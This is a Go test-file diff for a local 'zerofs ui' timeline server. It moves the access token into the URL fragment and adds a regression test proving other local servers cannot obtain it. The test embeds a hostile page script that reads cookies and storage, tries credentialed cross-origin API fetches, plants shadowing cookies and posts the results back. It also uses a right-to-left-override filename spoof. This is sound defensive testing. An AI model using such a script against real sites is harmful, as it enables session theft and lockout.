@@ -4,7 +4,10 @@ import (
 	"bufio"
 	"context"
 	"fmt"
+	"io"
 	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
 	"net/url"
 	"os"
 	"os/exec"
@@ -14,8 +17,12 @@ import (
 	"testing"
 	"time"
 
+	"github.com/chromedp/cdproto/cdp"
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/cdproto/storage"
 	"github.com/chromedp/chromedp"
 
+	"github.com/zerofs/zerofs/history"
 	"github.com/zerofs/zerofs/internal/testsupport"
 )
 
@@ -32,10 +39,11 @@ func needChromium(t *testing.T) string {
 	return ""
 }
 
-// startUI runs the built `zerofs ui` in dir and returns the URL it prints.
-func startUI(t *testing.T, dir string) string {
+// startUI runs the built `zerofs ui` in dir with args and returns the URL
+// it prints, and a stop that kills it (also run when the test ends).
+func startUI(t *testing.T, dir string, args ...string) (string, func()) {
 	t.Helper()
-	cmd := exec.Command(binary, "ui")
+	cmd := exec.Command(binary, append([]string{"ui"}, args...)...)
 	cmd.Dir = dir
 	cmd.Stderr = os.Stderr
 	out, err := cmd.StdoutPipe()
@@ -45,10 +53,14 @@ func startUI(t *testing.T, dir string) string {
 	if err := cmd.Start(); err != nil {
 		t.Fatal(err)
 	}
-	t.Cleanup(func() {
-		cmd.Process.Kill()
-		cmd.Wait()
-	})
+	var once sync.Once
+	stop := func() {
+		once.Do(func() {
+			cmd.Process.Kill()
+			cmd.Wait()
+		})
+	}
+	t.Cleanup(stop)
 	line := make(chan string, 1)
 	go func() {
 		s := bufio.NewScanner(out)
@@ -63,11 +75,50 @@ func startUI(t *testing.T, dir string) string {
 		if i < 0 {
 			t.Fatalf("zerofs ui printed %q, want a URL", l)
 		}
-		return l[i:]
+		return l[i:], stop
 	case <-time.After(60 * time.Second):
 		t.Fatal("zerofs ui printed no URL in 60 s")
 	}
-	return ""
+	return "", stop
+}
+
+// browserT is a headless Chromium's first tab, closed when the test ends.
+func browserT(t *testing.T, chrome string) context.Context {
+	t.Helper()
+	opts := []chromedp.ExecAllocatorOption{
+		chromedp.ExecPath(chrome), chromedp.UserDataDir(t.TempDir()),
+		chromedp.Flag("headless", true), chromedp.Flag("no-sandbox", true), chromedp.DisableGPU,
+		chromedp.Flag("disable-quic", true), chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck,
+		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
+		chromedp.Flag("disable-sync", true), chromedp.Flag("disable-dev-shm-usage", true),
+		chromedp.WindowSize(1360, 900),
+	}
+	actx, cancelA := chromedp.NewExecAllocator(context.Background(), opts...)
+	t.Cleanup(cancelA)
+	ctx, cancelB := chromedp.NewContext(actx)
+	t.Cleanup(cancelB)
+	ctx, cancelT := context.WithTimeout(ctx, 5*time.Minute)
+	t.Cleanup(cancelT)
+	return ctx
+}
+
+// pollJS waits up to 60 s for the JS expression expr to be true in the
+// tab of ctx, else fails the test with what the page shows.
+func pollJS(t *testing.T, ctx context.Context, what, expr string) {
+	t.Helper()
+	if _, err := chromedp.Run(ctx, chromedp.Poll[bool]("!!("+expr+")", chromedp.WithPollingTimeout(60*time.Second))); err != nil {
+		text, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText`))
+		t.Fatalf("%s: %v; the page shows:\n%s", what, err, text)
+	}
+}
+
+// clickJS clicks the element the JS expression expr finds.
+func clickJS(t *testing.T, ctx context.Context, what, expr string) {
+	t.Helper()
+	ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => { const e = `+expr+`; if (!e) return false; e.click(); return true })()`))
+	if err != nil || !ok {
+		t.Fatalf("click %s: %v (found: %v)", what, err, ok)
+	}
 }
 
 // TestTimelineInBrowser drives the timeline in a real headless Chromium
@@ -115,55 +166,34 @@ func TestTimelineInBrowser(t *testing.T) {
 		t.Fatalf("hello.go = %q, %v", edited, err)
 	}
 
-	u := startUI(t, ws)
+	u, _ := startUI(t, ws)
 	base, err := url.Parse(u)
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, target := range []string{"/", "/api/log", "/?token=wrong"} {
+	tok, ok := strings.CutPrefix(base.Fragment, "token=")
+	if !ok || base.RawQuery != "" {
+		t.Fatalf("zerofs ui printed %q, want the token in the fragment only", u)
+	}
+	for _, target := range []string{"/api/head", "/api/log", "/api/log?token=" + tok} {
 		resp, err := http.Get("http://" + base.Host + target)
 		if err != nil {
 			t.Fatal(err)
 		}
 		resp.Body.Close()
 		if resp.StatusCode != http.StatusForbidden {
-			t.Errorf("GET %s without the token: %d, want 403", target, resp.StatusCode)
+			t.Errorf("GET %s without the token header: %d, want 403", target, resp.StatusCode)
 		}
 	}
 
-	opts := []chromedp.ExecAllocatorOption{
-		chromedp.ExecPath(chrome), chromedp.UserDataDir(t.TempDir()),
-		chromedp.Flag("headless", true), chromedp.Flag("no-sandbox", true), chromedp.DisableGPU,
-		chromedp.Flag("disable-quic", true), chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck,
-		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
-		chromedp.Flag("disable-sync", true), chromedp.Flag("disable-dev-shm-usage", true),
-		chromedp.WindowSize(1360, 900),
-	}
-	actx, cancelA := chromedp.NewExecAllocator(context.Background(), opts...)
-	defer cancelA()
-	ctx, cancelB := chromedp.NewContext(actx)
-	defer cancelB()
-	ctx, cancelT := context.WithTimeout(ctx, 5*time.Minute)
-	defer cancelT()
+	ctx := browserT(t, chrome)
 
 	// entry is the JS expression of the entry labelled label.
 	entry := func(label string) string {
 		return fmt.Sprintf(`[...document.querySelectorAll(".entry")].find(e => e.querySelector(".label").textContent === %q)`, label)
 	}
-	poll := func(what, expr string) {
-		t.Helper()
-		if _, err := chromedp.Run(ctx, chromedp.Poll[bool]("!!("+expr+")", chromedp.WithPollingTimeout(60*time.Second))); err != nil {
-			text, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText`))
-			t.Fatalf("%s: %v; the page shows:\n%s", what, err, text)
-		}
-	}
-	click := func(what, expr string) {
-		t.Helper()
-		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => { const e = `+expr+`; if (!e) return false; e.click(); return true })()`))
-		if err != nil || !ok {
-			t.Fatalf("click %s: %v (found: %v)", what, err, ok)
-		}
-	}
+	poll := func(what, expr string) { t.Helper(); pollJS(t, ctx, what, expr) }
+	click := func(what, expr string) { t.Helper(); clickJS(t, ctx, what, expr) }
 
 	// Every console error, uncaught exception and failed load (a missing
 	// favicon is one) is a failure.
@@ -343,6 +373,217 @@ func TestTimelineInBrowser(t *testing.T) {
 	sh(`printf 'late\n' > late.txt`)
 	poll("the late step appears", `(() => { const e = `+entry("A late step")+`;
 		return e && e === document.querySelector(".entry") && e.innerText.includes("late.txt") })()`)
+}
+
+// TestTimelineTokenStaysInPage: issue 33. The token was kept in a cookie,
+// which a browser sends to every port of 127.0.0.1: any other local server
+// the person visited got it, and a page on another port could shadow it
+// with a bogus cookie and lock the timeline out. Now the token travels in
+// the URL's fragment and stays in the page: a server on another port of
+// 127.0.0.1, visited by the same Chromium in another tab and in the
+// timeline's own tab, receives nothing of it (no cookie, no header, no
+// URL, nothing its page can read and send), the browser holds no cookie
+// at all, and the cookies that page plants change nothing. Opening the
+// printed URL again, reloading, and opening a restarted zerofs ui's new
+// URL in the same tab (only the fragment changes) all keep working. A
+// prompt and an agent name with U+202E are shown quoted, as names are.
+func TestTimelineTokenStaysInPage(t *testing.T) {
+	chrome := needChromium(t)
+	ws := filepath.Join(t.TempDir(), "ws")
+	if err := os.Mkdir(ws, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	mountT(t, ws)
+	binOK(t, ws, "step", "Write hello")
+	sh(t, ws, "echo hello > hello.txt")
+	hws, err := history.Find(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	src, err := history.Open(context.Background(), hws, history.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = src.BeginTurn(context.Background(), []byte(`{"prompt":"open the invoice exe.png\u202egnp.exe","agent":"agent\u202ex"}`))
+	if cerr := src.Close(); err == nil {
+		err = cerr
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	binOK(t, ws, "step", "Edit hello")
+	sh(t, ws, "echo hello again >> hello.txt")
+
+	u, stop := startUI(t, ws)
+	base, err := url.Parse(u)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tok, ok := strings.CutPrefix(base.Fragment, "token=")
+	if !ok || len(tok) < 32 || base.RawQuery != "" {
+		t.Fatalf("zerofs ui printed %q, want the token in the fragment only", u)
+	}
+
+	// Another server on 127.0.0.1: it keeps every request whole, and its
+	// page sends back whatever it can read, tries the timeline's API with
+	// the browser's credentials, and plants cookies for the timeline's
+	// port (what locked the page out when the token was a cookie).
+	var mu sync.Mutex
+	var got []string
+	var reports []string
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		dump, err := httputil.DumpRequest(r, true)
+		if err != nil {
+			t.Error(err)
+		}
+		mu.Lock()
+		got = append(got, string(dump))
+		if r.URL.Path == "/report" {
+			b, _ := io.ReadAll(r.Body)
+			reports = append(reports, string(b))
+		}
+		mu.Unlock()
+		if r.URL.Path != "/" {
+			return
+		}
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprintf(w, `<!doctype html><title>another server</title><script>
+(async () => {
+  const r = {cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage),
+    referrer: document.referrer, history: history.length, name: window.name};
+  try { const x = await fetch("http://%[1]s/api/head", {credentials: "include"}); r.cors = x.status + " " + await x.text(); }
+  catch (e) { r.cors = "refused: " + e; }
+  try { const x = await fetch("http://%[1]s/api/head", {credentials: "include", mode: "no-cors"}); r.nocors = x.type; }
+  catch (e) { r.nocors = "refused: " + e; }
+  document.cookie = "zerofs-token-%[2]s=bogus; path=/api";
+  document.cookie = "zerofs-token=bogus; path=/";
+  await fetch("/report", {method: "POST", body: JSON.stringify(r)});
+  document.title = "reported";
+})();
+</script>`, base.Host, base.Port())
+	}))
+	t.Cleanup(other.Close)
+	if strings.HasSuffix(other.URL, ":"+base.Port()) {
+		t.Fatalf("the other server %s has the timeline's port", other.URL)
+	}
+
+	ctx := browserT(t, chrome)
+	entries := `document.querySelectorAll(".entry").length === 3 && /^head \d+ \u00b7 live/.test(document.getElementById("status").textContent)`
+	cookies := func() []string {
+		t.Helper()
+		cs, err := chromedp.Run(ctx, func(ctx context.Context, tg *chromedp.Target) ([]*network.Cookie, error) {
+			res, err := cdp.Call(ctx, tg, storage.GetCookies, storage.GetCookiesParams{})
+			return res.Cookies, err
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var out []string
+		for _, c := range cs {
+			out = append(out, c.Name+"="+c.Value+" ("+c.Domain+c.Path+")")
+		}
+		return out
+	}
+	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
+		t.Fatal(err)
+	}
+	pollJS(t, ctx, "the timeline lists the steps and the turn", entries)
+	if loc, err := chromedp.Run(ctx, chromedp.Location()); err != nil || strings.Contains(loc, tok) {
+		t.Errorf("location %q, %v: want the token dropped from the address", loc, err)
+	}
+	if c := cookies(); len(c) != 0 {
+		t.Errorf("the browser holds cookies %q after opening the timeline, want none", c)
+	}
+
+	// The other server, in a second tab while the timeline stays open, then
+	// in the timeline's own tab (a link followed).
+	tab, cancelTab := chromedp.NewContext(ctx)
+	defer cancelTab()
+	for i, c := range []context.Context{tab, ctx} {
+		if err := chromedp.Do(c, chromedp.Navigate(other.URL+"/")); err != nil {
+			t.Fatal(err)
+		}
+		pollJS(t, c, "the other server's page reports", `document.title === "reported"`)
+		mu.Lock()
+		n := len(reports)
+		mu.Unlock()
+		if n != i+1 {
+			t.Fatalf("%d reports after %d visits", n, i+1)
+		}
+	}
+	mu.Lock()
+	for _, req := range got {
+		if strings.Contains(req, tok) {
+			t.Errorf("the other server received the token:\n%s", req)
+		}
+	}
+	if len(got) < 4 || strings.Contains(got[0], "Cookie:") {
+		t.Errorf("the other server's first request (of %d) carries a cookie:\n%s", len(got), got[0])
+	}
+	for _, r := range reports {
+		// A no-cors fetch gets no opaque answer either: the API's answers
+		// are for its own origin (Cross-Origin-Resource-Policy).
+		if !strings.Contains(r, `"cors":"refused:`) || !strings.Contains(r, `"nocors":"refused:`) {
+			t.Errorf("the other page's report %s: want both fetches of the timeline's API refused", r)
+		}
+	}
+	t.Logf("the other server's page read and sent: %s", strings.Join(reports, "; "))
+	mu.Unlock()
+
+	// The planted cookies lock nobody out: the printed URL, opened again,
+	// works, and so does a reload (the fragment gone by then).
+	if c := cookies(); len(c) != 2 {
+		t.Errorf("cookies %q, want the other page's two", c)
+	}
+	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
+		t.Fatal(err)
+	}
+	pollJS(t, ctx, "the printed URL opened again", entries)
+	if err := chromedp.Do(ctx, chromedp.Reload()); err != nil {
+		t.Fatal(err)
+	}
+	pollJS(t, ctx, "the page after a reload", entries)
+	if loc, err := chromedp.Run(ctx, chromedp.Location()); err != nil || loc != "http://"+base.Host+"/" {
+		t.Errorf("location after the reload %q, %v; want http://%s/", loc, err, base.Host)
+	}
+	pollJS(t, ctx, "the prompt and the agent quoted", `(() => { const e = document.querySelector(".entry.turn");
+		return e.querySelector(".label").textContent === "\"open the invoice exe.png\\342\\200\\256gnp.exe\"" &&
+		e.querySelector(".agent").textContent === "\"agent\\342\\200\\256x\"" && !document.body.innerText.includes("\u202e") })()`)
+	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
+	if err != nil {
+		t.Fatal(err)
+	}
+	shots := os.Getenv("ZEROFS_SCREENSHOTS")
+	if shots == "" {
+		shots = t.TempDir()
+	}
+	shot := filepath.Join(shots, "timeline-reloaded.png")
+	if err := os.WriteFile(shot, png, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("screenshot after the reload: %s", shot)
+
+	// zerofs ui restarted on the same port has a new token; its URL opened
+	// in the same tab changes only the fragment (no reload): the page takes
+	// the new token.
+	stop()
+	u2, _ := startUI(t, ws, "--listen", base.Host)
+	if u2 == u || !strings.HasPrefix(u2, "http://"+base.Host+"/#token=") {
+		t.Fatalf("the restarted zerofs ui printed %q (the first %q)", u2, u)
+	}
+	pollJS(t, ctx, "the old token refused", `document.getElementById("status").textContent.includes("wrong token")`)
+	if _, err := chromedp.Run(ctx, chromedp.Evaluate[string](fmt.Sprintf(`location.href = %q`, u2))); err != nil {
+		t.Fatal(err)
+	}
+	pollJS(t, ctx, "the new URL's token taken", entries+` && location.hash === ""`)
+	mu.Lock()
+	defer mu.Unlock()
+	tok2 := strings.TrimPrefix(u2, "http://"+base.Host+"/#token=")
+	for _, req := range got {
+		if strings.Contains(req, tok2) {
+			t.Errorf("the other server received the new token:\n%s", req)
+		}
+	}
 }
 
 // TestUIUsage: zerofs ui takes no arguments, and outside a workspace it
